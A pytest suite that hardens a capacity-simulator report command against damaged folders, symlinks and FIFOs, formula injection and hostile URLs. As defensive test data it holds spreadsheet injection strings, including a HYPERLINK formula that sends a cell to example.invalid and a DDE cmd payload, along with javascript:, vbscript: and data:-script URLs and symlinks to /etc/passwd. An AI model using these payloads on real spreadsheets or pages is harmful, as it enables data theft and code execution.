"""``capsim report`` lets nothing in and fails in one line (issue 22): only capsim's own tables, as
regular files inside the folder, reach the page and the workbook; a damaged or hand-edited folder
is one line naming the file and the column or field, exit 2, the folder unchanged; names are text
in the workbook (never formulas) and in the charts (never Plotly markup); ``--docs-url`` is an
http(s) address or a relative path; a report that cannot be written is one line."""

from __future__ import annotations

import errno
import json
import os
import resource
import shutil
import stat
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from explore_scenarios import explore_folder, grid_file, solve_folder
from report_folders import annual, manifest, monthly, projects, run_folder, targets, write_folder
from safety import EXAMPLE, capsim, one_line

import sim
from sim.cli import main
from sim.errors import ScenarioError
from sim.report import page, read
from sim.report.charts import TIMELINE_MAX_ROWS
from sim.report.plan_charts import timeline_chart
from sim.report.page import charts_for

GUIZHOU = EXAMPLE.parent / "guizhou.yaml"


def state(folder: Path) -> dict[str, str]:
    """Every entry under ``folder``: its kind, and a regular file's bytes' hash (never opens a
    FIFO or device, never follows a link)."""
    import hashlib

    found = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(root) / name
            info = os.lstat(path)
            rel = str(path.relative_to(folder))
            if stat.S_ISLNK(info.st_mode):
                found[rel] = f"link -> {os.readlink(path)}"
            elif stat.S_ISREG(info.st_mode):
                with open(path, "rb") as stream:
                    digest = hashlib.sha256()
                    for block in iter(lambda: stream.read(1 << 20), b""):
                        digest.update(block)
                found[rel] = f"{info.st_size}:{digest.hexdigest()}"
            else:
                found[rel] = f"mode {stat.S_IFMT(info.st_mode):o}"
    return found


@pytest.fixture(scope="module")
def real(tmp_path_factory):
    """A real folder of each kind, written once for the module (no report, no plots)."""
    root = tmp_path_factory.mktemp("real")
    done = capsim("run", EXAMPLE, "-r", "8", "--seed", "3", "-j", "1", "--no-plots", "--no-report", "-q",
                  "--out", root / "run")
    assert done.returncode == 0, done.stderr
    done = capsim("compare", GUIZHOU, "-r", "4", "--seed", "3", "-j", "1", "--no-plots", "--no-report", "-q",
                  "--out", root / "compare")
    assert done.returncode == 0, done.stderr
    scenario = grid_file(root / "grid.yaml")
    return {"run": root / "run", "compare": root / "compare",
            "explore": explore_folder(scenario, root / "explore", "--no-report"),
            "solve": solve_folder(scenario, root / "solve", "--tolerance", "5", "--no-report")}


# --- the damage ----------------------------------------------------------------------------------


def _csv(name: str, change):
    def damage(folder: Path) -> None:
        table = pd.read_csv(folder / name, dtype=str, keep_default_na=False)
        table = change(table)
        table.to_csv(folder / name, index=False, lineterminator="\n")
    return damage


def cell(name: str, column: str, value: str, where=None):
    """Set ``column`` to ``value`` in the first row (or every row ``where(table)`` picks)."""
    def change(table):
        rows = table.index[where(table)] if where else table.index[:1]
        table.loc[rows, column] = value
        return table
    return _csv(name, change)


def drop(name: str, column: str):
    return _csv(name, lambda t: t.drop(columns=column))


def first_column(name: str, prefix: str, value: str):
    return _csv(name, lambda t: t.assign(**{next(c for c in t.columns if c.startswith(prefix)): value}))


def field(dotted: str, value):
    def damage(folder: Path) -> None:
        data = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
        node = data
        *parents, last = dotted.split(".")
        for part in parents:
            node = node[int(part)] if isinstance(node, list) else node[part]
        node[int(last) if isinstance(node, list) else last] = value
        (folder / "manifest.json").write_text(json.dumps(data), encoding="utf-8")
    return damage


def raw(name: str, data: bytes | str):
    def damage(folder: Path) -> None:
        (folder / name).write_bytes(data if isinstance(data, bytes) else data.encode())
    return damage


def as_folder(name: str):
    def damage(folder: Path) -> None:
        (folder / name).unlink()
        (folder / name).mkdir()
        (folder / name / "inside.csv").write_text("a\n1\n")
    return damage


def as_link(name: str):
    def damage(folder: Path) -> None:
        outside = folder.parent / f"outside-{folder.name}-{name}"
        shutil.copy(folder / name, outside)
        (folder / name).unlink()
        (folder / name).symlink_to(outside)
    return damage


def as_fifo(name: str):
    def damage(folder: Path) -> None:
        (folder / name).unlink()
        os.mkfifo(folder / name)
    return damage


def huge(name: str):
    def damage(folder: Path) -> None:
        with open(folder / name, "r+b") as stream:  # sparse: no disk used
            stream.truncate(read.MAX_TABLE_BYTES + 1)
    return damage


def nested(depth: int):
    return raw("manifest.json", '{"written_by": "capsim", "seed": 1, "x": ' + "[" * depth + "]" * depth + "}")


P50_ROW = lambda t: t.index == t.index[0]  # noqa: E731
SHARE_ROWS = lambda t: t["metric"] == "intelligent_share"  # noqa: E731
EFLOPS_ROWS = lambda t: t["metric"] == "total_eflops"  # noqa: E731
P_MET = lambda t: t["output"] == "target_probability"  # noqa: E731

DAMAGED = {  # name: (kind, damage, the file named, what else the line must name)
    # run: monthly.csv
    "monthly-no-p50": ("run", drop("monthly.csv", "p50"), "monthly.csv", "no column p50"),
    "monthly-no-variant": ("run", drop("monthly.csv", "variant"), "monthly.csv", "no column variant"),
    "monthly-no-metric": ("run", drop("monthly.csv", "metric"), "monthly.csv", "no column metric"),
    "monthly-p50-empty": ("run", cell("monthly.csv", "p50", ""), "monthly.csv", "column p50, line 2"),
    "monthly-p50-inf": ("run", cell("monthly.csv", "p50", "inf"), "monthly.csv", "column p50, line 2"),
    "monthly-p50-minus-inf": ("run", cell("monthly.csv", "p50", "-inf"), "monthly.csv", "column p50"),
    "monthly-p50-nan": ("run", cell("monthly.csv", "p50", "nan"), "monthly.csv", "column p50 holds text"),
    "monthly-p50-text": ("run", cell("monthly.csv", "p50", "lots"), "monthly.csv", "(line 2: 'lots')"),
    "monthly-mean-inf": ("run", cell("monthly.csv", "mean", "inf"), "monthly.csv", "column mean"),
    "monthly-p10-above-p50": ("run", cell("monthly.csv", "p10", "1e12"), "monthly.csv", "P10 <= P50 <= P90"),
    "monthly-bad-month": ("run", cell("monthly.csv", "month", "2025-13"), "monthly.csv", "column month"),
    "monthly-share-250pc": ("run", _csv("monthly.csv", lambda t: t.assign(
        **{c: t[c].where(~SHARE_ROWS(t), "2.5") for c in ("p10", "p50", "p90")})), "monthly.csv",
        "share must be from 0 to 1"),
    "monthly-negative-eflops": ("run", _csv("monthly.csv", lambda t: t.assign(
        **{c: t[c].where(~EFLOPS_ROWS(t), "-5") for c in ("p10", "p50", "p90")})), "monthly.csv",
        "cannot be negative"),
    "monthly-empty-file": ("run", raw("monthly.csv", ""), "monthly.csv", "the file is empty"),
    "monthly-binary": ("run", raw("monthly.csv", b"\xff\xfe\x00\x81\x00garbage\x00" * 50), "monthly.csv",
                       "damaged table"),
    "monthly-ragged": ("run", raw("monthly.csv", 'variant,month,metric,p10,p50,p90\nbase,"2025-01,x,1,2,3\n'),
                       "monthly.csv", "damaged table"),
    "monthly-a-folder": ("run", as_folder("monthly.csv"), "monthly.csv", "is a folder"),
    "monthly-a-symlink": ("run", as_link("monthly.csv"), "monthly.csv", "symbolic link"),
    "monthly-a-fifo": ("run", as_fifo("monthly.csv"), "monthly.csv", "is a FIFO"),
    "monthly-huge": ("run", huge("monthly.csv"), "monthly.csv", "too large"),
    "annual-year-text": ("run", cell("annual.csv", "year", "twenty"), "annual.csv", "column year"),
    "annual-year-fraction": ("run", cell("annual.csv", "year", "2025.5"), "annual.csv", "whole number"),
    "annual-p90-empty": ("run", cell("annual.csv", "p90", ""), "annual.csv", "column p90"),
    "targets-met-in-250pc": ("run", cell("targets.csv", "probability", "2.5"), "targets.csv", "column probability"),
    "targets-negative-p": ("run", cell("targets.csv", "probability", "-0.1"), "targets.csv", "column probability"),
    "targets-p-empty": ("run", cell("targets.csv", "probability", ""), "targets.csv", "column probability"),
    "targets-p-inf": ("run", cell("targets.csv", "probability", "inf"), "targets.csv", "column probability"),
    "targets-no-probability": ("run", drop("targets.csv", "probability"), "targets.csv", "no column probability"),
    "targets-by-not-a-month": ("run", cell("targets.csv", "by", "soon"), "targets.csv", "column by"),
    "targets-reached-not-a-month": ("run", cell("targets.csv", "reached_p50", "2025-99"), "targets.csv",
                                    "column reached_p50"),
    "projects-go-share-150pc": ("run", cell("projects.csv", "go_share", "1.5"), "projects.csv", "column go_share"),
    "projects-negative-wait": ("run", cell("projects.csv", "grid_wait_months_mean", "-3"), "projects.csv",
                               "column grid_wait_months_mean"),
    "projects-negative-mw": ("run", cell("projects.csv", "peak_facility_mw", "-1"), "projects.csv",
                             "column peak_facility_mw"),
    "projects-online-not-a-month": ("run", cell("projects.csv", "online_p50", "yesterday"), "projects.csv",
                                    "column online_p50"),
    "projects-no-project": ("run", drop("projects.csv", "project"), "projects.csv", "no column project"),
    "projects-a-symlink": ("run", as_link("projects.csv"), "projects.csv", "symbolic link"),
    "sites-p50-inf": ("run", cell("sites.csv", "p50", "inf"), "sites.csv", "column p50"),
    "sites-no-site": ("run", drop("sites.csv", "site"), "sites.csv", "no column site"),
    # run: manifest.json
    "replications-text": ("run", field("replications", "8"), "manifest.json", "field replications"),
    "replications-list": ("run", field("replications", [8]), "manifest.json", "field replications"),
    "replications-minus-5": ("run", field("replications", -5), "manifest.json", "field replications"),
    "replications-zero": ("run", field("replications", 0), "manifest.json", "field replications"),
    "replications-bool": ("run", field("replications", True), "manifest.json", "field replications"),
    "replications-fraction": ("run", field("replications", 2.5), "manifest.json", "field replications"),
    "replications-huge-float": ("run", raw("manifest.json", '{"written_by": "capsim", "replications": 1e999}'),
                                "manifest.json", "field replications"),
    "events-huge-int": ("run", field("events", 10 ** 30), "manifest.json", "too large"),
    "seed-text": ("run", field("seed", "three"), "manifest.json", "field seed"),
    "seed-negative": ("run", field("seed", -1), "manifest.json", "field seed"),
    "scenario-not-object": ("run", field("scenario", "x.yaml"), "manifest.json", "field scenario"),
    "scenario-name-number": ("run", field("scenario.name", 5), "manifest.json", "field scenario.name"),
    "versions-text": ("run", field("versions", "0.1.0"), "manifest.json", "field versions"),
    "command-text": ("run", field("command", "capsim run"), "manifest.json", "field command"),
    "kind-unknown": ("run", field("kind", "party"), "manifest.json", "field kind"),
    "applied-set-list": ("run", field("applied.set", [1]), "manifest.json", "field applied.set"),
    "targets-not-list": ("run", field("resolved_scenario.targets", "all"), "manifest.json",
                         "field resolved_scenario.targets"),
    "target-by-not-a-month": ("run", field("resolved_scenario.targets.0.by", "soon"), "manifest.json",
                              "field resolved_scenario.targets[0].by"),
    "target-eflops-text": ("run", field("resolved_scenario.targets.0.total_eflops", "lots"), "manifest.json",
                           "field resolved_scenario.targets[0].total_eflops"),
    "accounting-label-number": ("run", field("resolved_scenario.accounting", {"label": 5}), "manifest.json",
                                "field resolved_scenario.accounting.label"),
    "manifest-a-list": ("run", raw("manifest.json", "[1, 2, 3]"), "manifest.json", "not a capsim manifest"),
    "manifest-a-string": ("run", raw("manifest.json", '"capsim"'), "manifest.json", "not a capsim manifest"),
    "manifest-nested-200000": ("run", nested(200_000), "manifest.json", "nested"),
    "manifest-nested-100": ("run", nested(100), "manifest.json", "nested deeper than 64"),
    "manifest-empty": ("run", raw("manifest.json", ""), "manifest.json", "damaged manifest"),
    "manifest-truncated": ("run", raw("manifest.json", '{"written_by": "capsim", "seed":'), "manifest.json",
                           "damaged manifest"),
    "manifest-not-utf8": ("run", raw("manifest.json", b'{"written_by": "capsim", "x": "\xff\xfe"}'),
                          "manifest.json", "damaged manifest"),
    "manifest-a-symlink": ("run", as_link("manifest.json"), "manifest.json", "symbolic link"),
    "manifest-a-folder": ("run", as_folder("manifest.json"), "manifest.json", "is a folder"),
    "manifest-a-fifo": ("run", as_fifo("manifest.json"), "manifest.json", "is a FIFO"),
    # compare
    "compare-no-diff-mean": ("compare", drop("compare.csv", "diff_mean"), "compare.csv", "no column diff_mean"),
    "compare-p-met-250pc": ("compare", cell("compare.csv", "value", "2.5", P_MET), "compare.csv", "column value"),
    "compare-ci-inf": ("compare", cell("compare.csv", "diff_ci_low", "-inf"), "compare.csv", "column diff_ci_low"),
    "compare-diff-1e308": ("compare", cell("compare.csv", "diff_mean", "1e308"), "compare.csv",
                           "column diff_mean, line 2: a number beyond 1e+100"),
    "monthly-p90-1e308": ("run", cell("monthly.csv", "p90", "1e308"), "monthly.csv", "column p90"),
    "ranking-ci-text": ("compare", cell("ranking.csv", "diff_ci_low", "x"), "ranking.csv",
                        "column diff_ci_low holds text where numbers belong (line 2: 'x')"),
    "ranking-public-text": ("compare", cell("ranking.csv", "public_cost_cny", "never"), "ranking.csv",
                            "column public_cost_cny holds text"),
    "compare-value-text": ("compare", cell("compare.csv", "value", "much"), "compare.csv", "column value"),
    "ranking-rank-zero": ("compare", cell("ranking.csv", "rank", "0"), "ranking.csv", "column rank"),
    "ranking-probability-170pc": ("compare", first_column("ranking.csv", "probability[", "1.7"), "ranking.csv",
                                  "column probability["),
    "ranking-no-base": ("compare", _csv("ranking.csv", lambda t: t[t["variant"] != "base"]), "ranking.csv",
                        "no row for the base"),
    "annual-repeated-rows": ("run", _csv("annual.csv", lambda t: pd.concat([t, t.iloc[:1]])), "annual.csv",
                             "repeats the row of its variant, year, metric"),
    "sensitivity-repeated-rows": ("explore", _csv("sensitivity.csv", lambda t: pd.concat([t, t.iloc[:1]])),
                                  "sensitivity.csv", "repeats the row"),
    "ranking-no-value": ("compare", drop("ranking.csv", "value"), "ranking.csv", "no column value"),
    "runs-entry-list": ("compare", field("runs.base", []), "manifest.json", "field runs.base"),
    "runs-not-object": ("compare", field("runs", ["base"]), "manifest.json", "field runs"),
    "variants-text": ("compare", field("variants", "base"), "manifest.json", "field variants"),
    "rank-by-number": ("compare", field("rank_by", 3), "manifest.json", "field rank_by"),
    "compare-targets-a-symlink": ("compare", as_link("targets.csv"), "targets.csv", "symbolic link"),
    # explore
    "sensitivity-no-index": ("explore", drop("sensitivity.csv", "index"), "sensitivity.csv", "no column index"),
    "sensitivity-no-parameter": ("explore", drop("sensitivity.csv", "parameter"), "sensitivity.csv",
                                 "no column parameter"),
    "sensitivity-no-year": ("explore", drop("sensitivity.csv", "year"), "sensitivity.csv", "no column year"),
    "sensitivity-value-inf": ("explore", cell("sensitivity.csv", "value", "inf"), "sensitivity.csv", "column value"),
    "sensitivity-value-text": ("explore", cell("sensitivity.csv", "value", "big"), "sensitivity.csv",
                               "column value"),
    "sensitivity-stable-maybe": ("explore", cell("sensitivity.csv", "stable", "maybe"), "sensitivity.csv",
                                 "column stable"),
    "sensitivity-year-fraction": ("explore", cell("sensitivity.csv", "year", "2025.5"), "sensitivity.csv",
                                  "column year"),
    "discovery-no-coverage": ("explore", drop("discovery.csv", "coverage"), "discovery.csv", "no column coverage"),
    "discovery-no-chosen": ("explore", drop("discovery.csv", "chosen"), "discovery.csv", "no column chosen"),
    "discovery-coverage-250pc": ("explore", cell("discovery.csv", "coverage", "2.5"), "discovery.csv",
                                 "column coverage"),
    "discovery-mass-empty": ("explore", cell("discovery.csv", "mass", ""), "discovery.csv", "column mass"),
    "discovery-chosen-perhaps": ("explore", cell("discovery.csv", "chosen", "perhaps"), "discovery.csv",
                                 "column chosen"),
    "discovery-low-inf": ("explore", cell("discovery.csv", "low", "inf"), "discovery.csv", "column low"),
    "samples-p-met-250pc": ("explore", first_column("samples.csv", "p_met[", "2.5"), "samples.csv", "column p_met["),
    "samples-output-inf": ("explore", first_column("samples.csv", "energy_mwh", "inf"), "samples.csv",
                           "column energy_mwh"),
    "samples-negative-sample": ("explore", cell("samples.csv", "sample", "-1"), "samples.csv", "column sample"),
    "samples-no-sample": ("explore", drop("samples.csv", "sample"), "samples.csv", "no column sample"),
    "sensitivity-a-folder": ("explore", as_folder("sensitivity.csv"), "sensitivity.csv", "is a folder"),
    "sensitivity-a-symlink": ("explore", as_link("sensitivity.csv"), "sensitivity.csv", "symbolic link"),
    "explore-samples-text": ("explore", field("explore.samples", "8"), "manifest.json", "field explore.samples"),
    "explore-evaluations-negative": ("explore", field("explore.evaluations", -32), "manifest.json",
                                     "field explore.evaluations"),
    "explore-probability-150pc": ("explore", field("explore.probability", 1.5), "manifest.json",
                                  "field explore.probability"),
    "explore-inputs-text": ("explore", field("explore.inputs", "all"), "manifest.json", "field explore.inputs"),
    "explore-input-low-text": ("explore", field("explore.inputs.0.low", "zero"), "manifest.json",
                               "field explore.inputs[0].low"),
    "explore-method-unknown": ("explore", field("explore.method", "guess"), "manifest.json", "field explore.method"),
    "sensitivity-method-unknown": ("explore", _csv("sensitivity.csv", lambda t: t.assign(method="guess")),
                                   "sensitivity.csv", "column method"),
    "solve-probability-null": ("solve", field("solve.probability", None), "manifest.json",
                               "field solve.probability is missing"),
    "explore-not-object": ("explore", field("explore", [1]), "manifest.json", "field explore"),
    # solve
    "solve-no-met": ("solve", drop("solve.csv", "met"), "solve.csv", "no column met"),
    "solve-no-value": ("solve", drop("solve.csv", "value"), "solve.csv", "no column value"),
    "solve-p-250pc": ("solve", cell("solve.csv", "probability", "2.5"), "solve.csv", "column probability"),
    "solve-ci-negative": ("solve", cell("solve.csv", "ci_low", "-0.5"), "solve.csv", "column ci_low"),
    "solve-value-empty": ("solve", cell("solve.csv", "value", ""), "solve.csv", "column value"),
    "solve-value-nan": ("solve", cell("solve.csv", "value", "nan"), "solve.csv", "column value"),
    "solve-step-negative": ("solve", cell("solve.csv", "step", "-1"), "solve.csv", "column step"),
    "solve-minus-5-replications": ("solve", cell("solve.csv", "replications", "-5"), "solve.csv",
                                   "column replications"),
    "solve-met-maybe": ("solve", cell("solve.csv", "met", "maybe"), "solve.csv", "column met"),
    "solve-probability-250pc": ("solve", field("solve.probability", 2.5), "manifest.json", "field solve.probability"),
    "solve-answer-text": ("solve", field("solve.answer", "31"), "manifest.json", "field solve.answer"),
    "solve-answer-infinite": ("solve", field("solve.answer", float("inf")), "manifest.json", "field solve.answer"),
    "solve-bracket-one": ("solve", field("solve.bracket", [1.0]), "manifest.json", "field solve.bracket"),
    "solve-straddle-text": ("solve", field("solve.straddle", "wide"), "manifest.json", "field solve.straddle"),
    "solve-direction-up": ("solve", field("solve.direction", "up"), "manifest.json", "field solve.direction"),
    "solve-monotone-yes": ("solve", field("solve.monotone", "yes"), "manifest.json", "field solve.monotone"),
    "solve-tolerance-negative": ("solve", field("solve.tolerance", -2), "manifest.json", "field solve.tolerance"),
    "solve-not-object": ("solve", field("solve", "solved"), "manifest.json", "field solve"),
    "solve-a-fifo": ("solve", as_fifo("solve.csv"), "solve.csv", "is a FIFO"),
}
"""134 ways to damage a real folder; capsim wrote none of them."""


def _damaged(real, tmp_path, name) -> tuple[Path, str, str]:
    kind, damage, file, what = DAMAGED[name]
    folder = tmp_path / kind
    shutil.copytree(real[kind], folder)
    damage(folder)
    return folder, file, what


def test_there_are_134_damaged_folders():
    assert len(DAMAGED) == 134
    assert {kind for kind, *_ in DAMAGED.values()} == {"run", "compare", "explore", "solve"}


@pytest.mark.parametrize("name", sorted(DAMAGED))
def test_a_damaged_folder_is_one_line_naming_the_file_and_what_exit_2_unchanged(real, tmp_path, name, capsys):
    folder, file, what = _damaged(real, tmp_path, name)
    before = state(tmp_path)
    code = main(["report", str(folder), "--xlsx"])
    err = capsys.readouterr().err
    assert code == 2, err
    lines = err.splitlines()
    assert len(lines) == 1 and "Traceback" not in err and "internal error" not in err, err
    assert lines[0].startswith("capsim: error: ") and f"{folder / file}" in lines[0] and what in lines[0], lines[0]
    assert state(tmp_path) == before


@pytest.mark.parametrize("name", ["monthly-p50-inf", "targets-met-in-250pc", "replications-minus-5",
                                  "manifest-nested-200000", "sensitivity-no-index", "discovery-coverage-250pc",
                                  "solve-a-fifo", "monthly-a-symlink", "compare-no-diff-mean"])
def test_a_damaged_folder_through_the_command(real, tmp_path, name):
    folder, file, what = _damaged(real, tmp_path, name)
    before = state(tmp_path)
    done = capsim("report", folder, "--xlsx", timeout=120)  # a FIFO opened for reading would hang here
    assert done.returncode == 2
    line = one_line(done)
    assert str(folder / file) in line and what in line, line
    assert state(tmp_path) == before


def test_every_real_folder_still_gives_its_report(real, tmp_path):
    for kind, folder in real.items():
        copy = shutil.copytree(folder, tmp_path / kind)
        written = sim.report.write(copy, xlsx=True)
        assert [p.name for p in written] == ["report.html", "report.xlsx"]


# --- symbolic links and other files ------------------------------------------------------------


def test_files_the_report_does_not_know_are_not_read_nor_embedded(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-CONTENT-1234\n")
    folder = run_folder(tmp_path / "run")
    (folder / "zznotes.csv").symlink_to(secret)
    (folder / "zzpasswd.csv").symlink_to("/etc/passwd")
    (folder / "zzmine.csv").write_text("note\nMY-OWN-NOTES-5678\n")
    os.mkfifo(folder / "zzpipe.csv")
    before = state(tmp_path)
    done = capsim("report", folder, "--xlsx", "--out", tmp_path / "r.html")
    assert done.returncode == 0, done.stderr
    page_text = (tmp_path / "r.html").read_text(encoding="utf-8")
    with zipfile.ZipFile(tmp_path / "r.xlsx") as book:
        workbook_text = "".join(book.read(n).decode("utf-8", "replace") for n in book.namelist())
    for text in (page_text, workbook_text):
        assert "SECRET-CONTENT" not in text and "root:x:0" not in text and "MY-OWN-NOTES" not in text
        assert "zznotes" not in text and "zzpasswd" not in text and "zzmine" not in text and "zzpipe" not in text
    after = state(tmp_path)
    assert {k: v for k, v in after.items() if k not in ("r.html", "r.xlsx")} == before


def test_a_symlinked_table_is_refused_naming_it_even_to_a_copy_of_its_own(tmp_path):
    folder = run_folder(tmp_path / "run")
    shutil.move(folder / "targets.csv", tmp_path / "targets.csv")
    (folder / "targets.csv").symlink_to(tmp_path / "targets.csv")
    before = state(tmp_path)
    done = capsim("report", folder)
    assert done.returncode == 2
    assert one_line(done) == (f"capsim: error: {folder / 'targets.csv'}: is a symbolic link; the report reads only "
                              "regular files inside the folder")
    assert state(tmp_path) == before


def test_a_table_replaced_by_a_link_after_the_check_is_not_followed(tmp_path, monkeypatch):
    """Between lstat and open the file becomes a link: O_NOFOLLOW refuses to open it."""
    folder = run_folder(tmp_path / "run")
    real_lstat = os.lstat

    def lstat_then_swap(path, *args, **kwargs):
        info = real_lstat(path, *args, **kwargs)
        if Path(path).name == "targets.csv" and not Path(path).is_symlink():
            Path(path).unlink()
            Path(path).symlink_to("/etc/passwd")
        return info

    monkeypatch.setattr(read.os, "lstat", lstat_then_swap)
    with pytest.raises(ScenarioError, match=r"targets.csv: cannot be read: .*(symbolic link|Too many levels)"):
        read.read_folder(folder)


def test_the_reproduce_section_embeds_the_bytes_that_were_checked(tmp_path, monkeypatch):
    folder = run_folder(tmp_path / "run")
    results = read.read_folder(folder)
    (folder / "targets.csv").unlink()
    (folder / "targets.csv").symlink_to("/etc/passwd")  # after reading: the page does not read it again
    html = page.build_html(results, folder)
    assert "root:x:0" not in html
    import base64

    assert base64.b64encode(results.raw["targets"]).decode() in html


# --- the workbook: text, never formulas --------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
           "\r=1+1", "=cmd|' /C calc'!A0"]


def test_names_that_look_like_formulas_are_text_cells_in_the_workbook(tmp_path):
    from openpyxl import load_workbook

    table = targets()
    table["target"] = HOSTILE[:3]
    project_table = projects()
    project_table.loc[0, "project"] = HOSTILE[3]
    monthly_table = monthly(variant=HOSTILE[4])
    folder = write_folder(tmp_path / "run", {"monthly": monthly_table, "annual": annual(), "targets": table,
                                             "projects": project_table},
                          manifest(variant=HOSTILE[5], note=HOSTILE[6], control="a\x01b"))
    written = sim.report.write(folder, xlsx=True)
    book = load_workbook(written[1])
    texts = {}
    for sheet in book:
        for row in sheet.iter_rows():
            for item in row:
                if isinstance(item.value, str):
                    assert item.data_type == "s", (sheet.title, item.coordinate, item.value)
                    texts.setdefault(item.value, item.coordinate)
    for name in HOSTILE:
        assert name.replace("\r", "\n") in texts or name in texts, name  # XML turns a lone CR into LF
    assert texts["a\ufffdb"]  # a control character a workbook cannot hold, shown as U+FFFD
    with zipfile.ZipFile(written[1]) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    assert isinstance(book["targets"]["D2"].value, float)  # numbers stay numbers


# --- --docs-url ----------------------------------------------------------------------------------

BAD_URLS = ["javascript:alert(document.domain)", "JavaScript:alert(1)", " javascript:alert(1)",
            "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
            "file:///etc", "//evil.example/docs", "\\\\evil.example\\docs", "http:docs", "https://", ""]


@pytest.mark.parametrize("url", BAD_URLS)
def test_docs_url_other_than_http_or_relative_is_one_line_before_any_work(tmp_path, url):
    folder = run_folder(tmp_path / "run")
    before = state(tmp_path)
    done = capsim("report", folder, "--docs-url", url)
    assert done.returncode == 2
    assert "--docs-url" in one_line(done)
    assert state(tmp_path) == before
    with pytest.raises(ScenarioError, match="--docs-url"):
        sim.report.write(tmp_path / "no-such-folder", docs_url=url)  # refused before the folder is read


@pytest.mark.parametrize("url", ["https://example.org/capsim/docs", "http://localhost:8000/docs", "../docs",
                                 "docs", "/srv/capsim/docs"])
def test_http_and_relative_docs_urls_are_used(tmp_path, url):
    page_path = sim.report.write(run_folder(tmp_path / "run"), docs_url=url)[0]
    assert f'href="{url}/sources.md' in page_path.read_text(encoding="utf-8")


# --- names in the charts -----------------------------------------------------------------------

MARKUP = "<b>x</b> & <i>y</i>"
PLAIN = "&lt;b&gt;x&lt;/b&gt; &amp; &lt;i&gt;y&lt;/i&gt;"


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from _strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from _strings(v)


def test_names_reach_every_figure_as_plain_text(tmp_path):
    from report_folders import SCENARIO, compare_folder

    folder = compare_folder(tmp_path / "cmp")
    for name in ("monthly", "annual", "targets", "projects", "compare", "ranking"):
        path = folder / f"{name}.csv"
        if path.exists():
            table = pd.read_csv(path, dtype=str, keep_default_na=False)
            for column in ("variant", "project", "target", "when"):
                if column in table.columns:
                    table[column] = table[column].replace({"fast": MARKUP, "p1": MARKUP, "plan A": MARKUP})
            table.to_csv(path, index=False)
    data = json.loads((folder / "manifest.json").read_text())
    data["resolved_scenario"] = {**SCENARIO, "accounting": {"label": "<sup>FP16</sup>"},
                                 "targets": [{**SCENARIO["targets"][0], "name": MARKUP}]}
    data["variants"] = [MARKUP if v == "fast" else v for v in data["variants"]]
    data["rank_by"] = MARKUP
    (folder / "manifest.json").write_text(json.dumps(data))
    charts = charts_for(read.read_folder(folder))
    texts = [t for c in charts for t in _strings(c.figure.to_dict())]
    assert not [t for t in texts if "<b>" in t or "<i>" in t or "<sup>" in t]
    assert sum(PLAIN in t for t in texts) >= 5  # legend, ticks, hover, target labels
    assert any("&lt;sup&gt;FP16&lt;/sup&gt;" in t for t in texts)  # the accounting basis in a title
    assert not [t for c in charts for d in c.figure.data for t in [d.get("hovertemplate", "")] if MARKUP in t]


def test_site_lever_and_output_names_are_plain_text_in_titles():
    from sim.report.plan_charts import sites_chart
    from sim.report.study_charts import solve_chart, tornado_charts

    sites = pd.DataFrame([{"variant": "base", "month": "2025-01", "site": "<b>s</b>", "metric": "facility_mw",
                           "p10": 1.0, "p50": 2.0, "p90": 3.0}])
    chart = sites_chart(sites)
    assert [a["text"] for a in chart.figure.layout["annotations"]] == [  # one site: no stack above its panel
        "&lt;b&gt;s&lt;/b&gt;: peak 2 MW"]
    solve = pd.DataFrame({"value": [1.0, 2.0], "probability": [0.1, 0.9], "ci_low": [0.0, 0.8],
                          "ci_high": [0.2, 1.0], "met": [False, True]})
    chart = solve_chart(solve, {"lever": "<i>lever</i>", "target": "<b>t</b>", "unit": "<u>MW</u>",
                                "status": "solved", "answer": 2.0, "probability": 0.8})
    layout = json.dumps(chart.figure.layout)
    assert "<i>" not in layout and "<b>" not in layout and "<u>" not in layout
    assert chart.figure.layout["xaxis"]["title"]["text"] == "&lt;i&gt;lever&lt;/i&gt; (&lt;u&gt;MW&lt;/u&gt;)"
    sensitivity = pd.DataFrame({"output": ["p_met[<b>t</b>]"] * 2, "year": [np.nan] * 2,
                                "parameter": ["<b>a</b>", "<b>a</b>"], "index": ["ST", "S1"], "value": [0.5, 0.4],
                                "ci_low": [0.4, 0.3], "ci_high": [0.6, 0.5], "stable": [True, True]})
    chart = tornado_charts(sensitivity, "sobol")[0]
    assert "<b>" not in json.dumps(chart.figure.to_dict())
    assert chart.title == "Sensitivity of P(target '<b>t</b>' met)"  # the page escapes it as HTML itself


# --- scale ------------------------------------------------------------------------------------------


def test_the_timeline_of_5000_projects_shows_the_largest_and_one_row_per_class(tmp_path):
    n = 5000
    table = pd.DataFrame({"variant": "base", "project": [f"p{i:04d}" for i in range(n)],
                          "class": ["general", "intelligent", "supercomputing", "intelligent"] * (n // 4),
                          "site": "s", "status": "registered", "planned_online": "2026-01", "go_share": 1.0,
                          "online_p10": "2026-01", "online_p50": "2026-06",
                          "online_p90": ["2027-01", "never"] * (n // 2), "peak_facility_mw": np.arange(n, dtype=float)})
    chart = timeline_chart(table)
    rows = list(dict.fromkeys(y for d in chart.figure.data for y in d["y"] if y is not None))
    assert len(rows) == TIMELINE_MAX_ROWS == 48
    kept = TIMELINE_MAX_ROWS - 3
    assert rows[:3] == ["p4956", "p4960", "p4964"]  # general first; same planned and median month: by id
    largest = {f"p{i:04d}" for i in range(n - kept, n)}
    # the other 4,955 (p0000 to p4954): general i % 4 == 0 (0 to 4952: 1,239), supercomputing i % 4 == 2
    # (2 to 4954: 1,239), intelligent the odd ones (1 to 4953: 2,477)
    assert set(rows) - largest == {"+1,239 smaller (general)", "+2,477 smaller (intelligent (AI))",
                                   "+1,239 smaller (supercomputing)"}
    assert chart.figure.layout["height"] == 130 + 24 * 48 <= 1300
    title = chart.figure.layout["title"]["text"]
    assert f"5,000 projects: the {kept} largest by peak facility MW shown, the other 4,955 aggregated per class" in title
    assert "aggregated" in chart.description
